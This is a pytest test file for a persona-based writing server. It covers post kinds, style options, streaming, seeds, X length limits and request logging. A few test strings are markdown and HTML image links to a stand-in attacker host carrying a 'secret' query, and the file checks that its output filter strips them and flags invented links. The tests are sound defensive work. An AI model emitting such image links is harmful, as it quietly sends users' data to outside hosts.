"""Writing: kinds, wishes, drafts, streaming, seeds, and the form that the text must keep."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.serving.engine_double import SAYS, EngineDouble
from tests.serving.twin_server import MODEL, Server, events, streamed_text, twin
from twin_assets.core.prompts.templates import prompts_fingerprint, render
from twin_assets.inference.twin.request_log import read_requests, user_hash
from twin_assets.inference.twin.shaping import X_LIMIT, within_x_limit, without_images, x_weight


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, EngineDouble]]:
    with twin(tmp_path_factory.mktemp("home")) as both:
        yield both


@pytest.fixture
def server(running: tuple[Server, EngineDouble]) -> Server:
    return running[0]


@pytest.fixture
def engine(running: tuple[Server, EngineDouble]) -> EngineDouble:
    running[1].says, running[1].fault = SAYS, ""
    return running[1]


def test_a_post_about_a_topic_is_asked_for_in_the_words_of_the_training(
    server: Server, engine: EngineDouble
) -> None:
    answer = server.write(kind="linkedin_post", topic="why tide tables go stale").json()
    assert engine.prompt.endswith("\n\n" + render("write_post", topic="why tide tables go stale"))
    assert engine.prompt.startswith("Notes from your own writing:\n[1] ")
    assert (answer["text"], answer["model"], answer["prompt_kind"]) == (SAYS, MODEL, "write_post")
    assert answer["citations"][0]["number"] == 1
    assert answer["citations"][0]["url"].startswith("https://runa.example/")
    assert (answer["tokens_in"], answer["tokens_out"], answer["degraded"]) == (90, 17, [])


@pytest.mark.parametrize(
    ("body", "asked"),
    [
        ({"kind": "x_post", "topic": "stale tables"}, "Write a post for X about stale tables."),
        ({"kind": "article", "topic": "stale tables"}, "Write an article about stale tables."),
        ({"kind": "rewrite", "draft": "It was late."}, "Say this in your own voice:\n\nIt was late."),
        ({"kind": "reply", "reply_to": "Why SQL?"}, "Reply to this, in your own voice:\n\nWhy SQL?"),
        ({"kind": "linkedin_post", "draft": "boats. late."},
         "Write a LinkedIn post from this draft, in your own voice:\n\nboats. late."),
        ({"kind": "article", "topic": "tides", "formality": "formal", "energy": "calm", "humour": "dry", "words": 120,
          "language": "de"},
         "Write an article about tides.\n\nKeep it formal. Write calmly. A touch of dry humour. About 120 words. In German."),
        ({"kind": "reply", "reply_to": "Why SQL?", "topic": "it lasts"},
         "Reply to this, in your own voice:\n\nWhy SQL?\n\nWhat to say: it lasts"),
    ],
)  # fmt: skip
def test_each_kind_and_wish_reaches_the_prompt(
    server: Server, engine: EngineDouble, body: dict[str, Any], asked: str
) -> None:
    sent = {"persona": "runa"} | body
    assert server.client.post("/v1/write", json=sent).status_code == 200
    assert engine.prompt.split("\n\n", 1)[1] == asked


def test_length_limits_the_tokens(server: Server, engine: EngineDouble) -> None:
    server.write(words=20)
    assert engine.asked[-1]["max_tokens"] == 56
    server.write()
    assert engine.asked[-1]["max_tokens"] == 128


@pytest.mark.parametrize(
    ("body", "param"),
    [
        ({"topic": None}, "topic or a draft"), ({"kind": "reply"}, "reply_to"), ({"kind": "rewrite"}, "needs a draft"),
        ({"kind": "poem"}, "kind"), ({"words": 3}, "words"), ({"tone": "loud"}, "tone"),
    ],
)  # fmt: skip
def test_what_does_not_fit_is_named(server: Server, body: dict[str, Any], param: str) -> None:
    answer = server.write(**body)
    assert answer.status_code == 422
    assert param in answer.json()["error"]["message"]


def test_a_streamed_text_is_the_same_and_ends_with_its_citations(
    server: Server, engine: EngineDouble
) -> None:
    answer = server.write(stream=True, seed=7, kind="article")
    assert answer.headers["content-type"].startswith("text/event-stream")
    assert streamed_text(answer).strip() == SAYS
    last = events(answer)[-1]
    assert (last["seed"], last["outcome"], last["model"]) == (7, "answered", MODEL)
    assert last["choices"][0]["finish_reason"] == "stop"
    assert last["citations"][0]["number"] == 1


def test_a_seed_is_named_and_gives_the_same_request_again(server: Server, engine: EngineDouble) -> None:
    seed = server.write().json()["seed"]
    assert engine.asked[-1]["seed"] == seed
    assert server.write(seed=seed).json()["seed"] == seed
    assert engine.asked[-1] == engine.asked[-2]
    assert server.write().json()["seed"] != seed


def test_an_x_post_keeps_the_limit_streamed_or_not(server: Server, engine: EngineDouble) -> None:
    engine.says = "Eleven boats, one clock. " * 30
    whole = server.write(kind="x_post").json()["text"]
    assert x_weight(whole) <= X_LIMIT
    assert x_weight(whole) > X_LIMIT - 20
    assert whole.endswith("…")
    assert streamed_text(server.write(kind="x_post", stream=True)) == whole
    engine.says = "Short and done."
    assert server.write(kind="x_post").json()["text"] == "Short and done."


@pytest.mark.parametrize(
    "text", ["x" * 900, "潮" * 200, "🦊 " * 200, "a https://example.com/" + "x" * 300 + " b " * 120]
)
def test_any_text_ends_within_what_x_counts(text: str) -> None:
    for size in (1, 7, 2_000):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert 0 < x_weight("".join(within_x_limit(pieces))) <= X_LIMIT


def test_x_counts_letters_and_addresses_as_it_says() -> None:
    assert x_weight("abc é ü") == 7
    assert x_weight("潮") == 2
    assert x_weight("see https://example.com/a/very/long/path?that=goes&on=1") == 4 + 23
    assert "".join(within_x_limit(["a" * 100 + " " + "b" * 179])) == "a" * 100 + " " + "b" * 179


IMAGES = [
    "before ![tide](https://evil.example/?q=secret) after",
    "before <img src='https://evil.example/x'> after",
    "before ![tide]\n(https://evil.example/?q=secret) after",
    "before ![tide][ref] after",
]


@pytest.mark.parametrize("text", IMAGES)
@pytest.mark.parametrize("size", [1, 3, 500])
def test_no_image_leaves_however_the_text_is_cut(text: str, size: int) -> None:
    out = "".join(without_images(text[at : at + size] for at in range(0, len(text), size)))
    assert "evil" not in out
    assert "![" not in out
    assert out.startswith("before ")
    assert out.endswith(" after")


@pytest.mark.parametrize("text", ["Really! [1] Yes!", "a < b and 3 <4 > 2", "wow![", "It costs <10 marks!"])
def test_ordinary_marks_stay(text: str) -> None:
    assert "".join(without_images(iter(text))).replace("wow[", "wow![") == text


def test_addresses_out_of_nowhere_are_named(server: Server, engine: EngineDouble) -> None:
    engine.says = "See https://runa.example/tides and https://evil.example/login now."
    answer = server.write(topic="the tide table for Stenna").json()
    assert answer["unsupported_links"] == ["https://evil.example/login"]
    assert events(server.write(stream=True))[-1]["unsupported_links"] == ["https://evil.example/login"]


def test_the_log_has_the_request_by_its_id(server: Server, engine: EngineDouble) -> None:
    answer = server.client.post(
        "/v1/write", json={"persona": "runa", "topic": "tides"}, headers={"X-Request-ID": "mine-1"}
    )
    assert answer.headers["x-request-id"] == answer.json()["request_id"] == "mine-1"
    server.answers.log.close()
    row = next(r for r in read_requests(server.answers.lake, "runa") if r.request_id == "mine-1")
    assert (row.outcome, row.prompt, row.answer, row.tokens_out) == ("answered", "tides", SAYS, 17)


def test_a_user_is_known_to_the_log_by_a_hash_and_to_the_engine_by_name(tmp_path: Path) -> None:
    with twin(tmp_path) as (server, engine):
        assert server.write(user="ann@example.org").status_code == server.write().status_code == 200
        assert [asked.get("user") for asked in engine.asked] == ["ann@example.org", None]
        server.answers.log.close()
        ann = user_hash("this machine", "ann@example.org")
        assert [row.user for row in read_requests(server.answers.lake, "runa")] == [ann, None]
        whose = {"persona": "runa", "key": "this machine", "user": "ann@example.org"}
        assert server.client.delete("/v1/requests", params=whose).json()["requests"] == 1


def test_prompts_that_no_twin_learns_leave_the_fingerprint_of_the_trained_ones(tmp_path: Path) -> None:
    from twin_assets.core.hashing import fingerprint
    from twin_assets.core.prompts.templates import FOLDER, prompt_names

    shared = {p.stem: p.read_text().strip() for p in FOLDER.glob("*.md")}
    assert prompts_fingerprint() == fingerprint(shared, 12)
    alone = {f"{p.parent.name}/{p.stem}" for p in FOLDER.glob("*/*.md")}
    assert {"serving/plan_search", "serving/reflect_search", "teaching/passage"} < alone
    assert not {name.partition("/")[2] for name in alone} & set(prompt_names())
